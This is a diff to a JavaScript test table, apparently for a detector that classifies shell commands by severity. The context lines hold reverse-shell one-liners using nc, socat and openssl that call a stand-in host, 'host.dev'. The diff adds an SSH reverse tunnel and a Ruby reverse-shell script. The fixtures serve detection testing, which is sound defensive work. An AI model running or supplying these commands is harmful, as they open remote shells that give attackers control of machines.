@@ -13,6 +13,12 @@ test.each([
   ["rm /tmp/f; mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc host.dev 4444 > /tmp/f", "shell critical"],
   ["socat TCP:host.dev:4444 EXEC:/bin/sh", "shell critical"],
   ["nc host.dev 4444 | bash", "shell critical"],
+  ["ssh -i k -o StrictHostKeyChecking=no -N -R 2222:localhost:22 u@host.dev", "tunnel high"],
+  [
+    "require 'socket'\nrequire 'open3'\ns = TCPSocket.new('host.dev', 4242)\nwhile (line = s.gets)\n  out, = Open3.capture2e(line.chomp)\n  s.puts out\nend",
+    "shell critical",
+    "ruby",
+  ],
   ["nc -lvp 4444 -e /bin/bash", "listener critical"],
   [
     "mkfifo /tmp/s; /bin/sh -i < /tmp/s 2>&1 | openssl s_client -quiet -connect host.dev:443 > /tmp/s",
